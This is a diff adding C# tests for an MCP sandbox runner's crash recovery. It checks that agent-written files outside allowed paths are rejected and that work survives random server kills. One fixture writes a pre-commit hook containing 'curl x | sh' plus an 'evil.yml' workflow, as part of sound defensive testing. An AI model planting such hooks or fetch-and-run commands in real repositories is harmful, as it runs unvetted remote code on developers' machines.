@@ -38,6 +38,99 @@ public sealed class McpRecoveryTests(DockerFixture docker)
         Assert.False(Directory.Exists(Path.Combine(s.Repository.GitDir, "sandbox-runner", "worktrees", runId)));
     }
 
+    [Fact]
+    public async Task A_recovered_task_is_judged_and_its_out_of_policy_branch_is_never_applied()
+    {
+        await using var s = await McpHarness.StartAsync(docker, """{"default_allowed_paths": ["src/**"]}""");
+        var runId = McpServerProcess.NewRunId("judged");
+        await s.Server.CallOkAsync("start_codex_run", McpServerProcess.Run(runId, McpServerProcess.TaskArg("t",
+            "@write src/ok.txt fine\n", "@write .github/workflows/evil.yml on: push\n", "@write .husky/pre-commit curl x | sh\n",
+            "@symlink src/up ../../outside", "@sleep 300")));
+        await s.WaitForRunningTaskAsync(runId);
+        await Task.Delay(1000);
+
+        KillServerOf(s.Repository.Path);
+        await s.RestartAsync();
+        var result = await RecoveredResultAsync(s, runId);
+
+        Assert.Equal("cancelled", result.GetProperty("status").GetString());
+        var violations = result.GetProperty("violations").EnumerateArray().Select(v => (v.GetProperty("kind").GetString(), v.GetProperty("path").GetString())).ToList();
+        Assert.Contains(("path_not_allowed", ".github/workflows/evil.yml"), violations);
+        Assert.Contains(("path_not_allowed", ".husky/pre-commit"), violations);
+        Assert.Contains(("symlink_escape", "src/up"), violations);
+        Assert.False(result.GetProperty("patch_applicable").GetBoolean());
+
+        var before = s.Repository.Git("status", "--porcelain");
+        var apply = await s.Server.CallAsync("apply_codex_result", new() { ["run_id"] = runId, ["task_id"] = "t" });
+        Assert.True(apply.IsError);
+        Assert.Equal(before, s.Repository.Git("status", "--porcelain"));
+        Assert.False(File.Exists(Path.Combine(s.Repository.Path, ".github", "workflows", "evil.yml")));
+    }
+
+    [Fact]
+    public async Task A_server_killed_at_random_points_loses_no_finished_task_and_every_task_is_judged()
+    {
+        await using var s = await McpHarness.StartAsync(docker);
+        for (var seed = 1; seed <= 10; seed++)
+        {
+            var random = new Random(seed);
+            var runId = McpServerProcess.NewRunId($"chaos{seed}");
+            await s.Server.CallOkAsync("start_codex_run", McpServerProcess.Run(runId,
+                McpServerProcess.TaskArg("fast", "@write src/fast.txt fast\n", "@message fast"),
+                McpServerProcess.TaskArg("failing", "@write src/failing.txt f\n", "@fail on purpose"),
+                McpServerProcess.TaskArg("slow", "@write src/slow.txt slow\n", $"@sleep {random.Next(1, 4)}", "@write src/later.txt later\n")));
+            await Task.Delay(random.Next(200, 3500));
+
+            KillServerOf(s.Repository.Path);
+            await s.RestartAsync();
+            var run = await WaitForSettledAsync(s, runId, 3);
+
+            Assert.Contains(run.GetProperty("status").GetString(), (string[])["interrupted", "finished"]);
+            foreach (var task in run.GetProperty("tasks").EnumerateArray())
+            {
+                var result = task.GetProperty("result");
+                var id = task.GetProperty("task_id").GetString()!;
+                Assert.True(result.ValueKind == System.Text.Json.JsonValueKind.Object, $"seed {seed}: {id} has no result");
+                Assert.Contains(result.GetProperty("status").GetString(), (string[])["success", "failed", "cancelled"]);
+                var files = result.GetProperty("files_changed").EnumerateArray().Select(f => f.GetString()!).ToList();
+                if (files.Count > 0)
+                {
+                    // The work is on its branch, whatever moment the server died at.
+                    var branch = result.GetProperty("branch").GetString();
+                    Assert.Equal($"sandbox/{runId}/{id}", branch);
+                    Assert.All(files, f => Assert.NotEqual("", s.Repository.Git("cat-file", "-t", $"{branch}:{f}").Trim()));
+                }
+
+                if (result.GetProperty("status").GetString() == "success")
+                {
+                    Assert.Equal("fast", id);
+                }
+            }
+
+            Assert.False(Directory.Exists(Path.Combine(s.Repository.GitDir, "sandbox-runner", "worktrees", runId)), $"seed {seed}: trees left");
+        }
+    }
+
+    /// <summary>Recovery runs in the background at start; polls until every task of the run has a result and its trees are gone.</summary>
+    private static async Task<System.Text.Json.JsonElement> WaitForSettledAsync(McpHarness s, string runId, int tasks)
+    {
+        var trees = Path.Combine(s.Repository.GitDir, "sandbox-runner", "worktrees", runId);
+        for (var i = 0; ; i++)
+        {
+            var run = await s.Server.CallOkAsync("get_codex_run", new Dictionary<string, object?> { ["run_id"] = runId });
+            var done = run.GetProperty("tasks").EnumerateArray().Count(t => t.GetProperty("result").ValueKind == System.Text.Json.JsonValueKind.Object);
+            if ((done == tasks && !Directory.Exists(trees)) || i > 240)
+            {
+                return run;
+            }
+
+            await Task.Delay(250);
+        }
+    }
+
+    private static async Task<System.Text.Json.JsonElement> RecoveredResultAsync(McpHarness s, string runId) =>
+        (await WaitForSettledAsync(s, runId, 1)).GetProperty("tasks")[0].GetProperty("result");
+
     /// <summary>SIGKILL, so the server gets no chance to clean up: what a crash or an impatient client does.</summary>
     private static void KillServerOf(string repoPath)
     {
